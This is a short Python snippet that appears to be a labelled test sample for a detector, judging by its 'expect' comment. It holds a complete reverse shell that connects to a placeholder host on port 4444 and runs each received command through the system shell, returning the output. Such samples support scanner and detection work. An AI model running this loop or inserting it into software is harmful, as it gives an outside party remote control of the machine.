import socket
import subprocess

connection = socket.socket()
connection.connect(("toy.example.invalid", 4444))
while True:
    command = connection.recv(1024).decode()
    answer = subprocess.check_output(command, shell=True)  # expect: source/remote-command-loop import conclusive
    connection.send(answer)
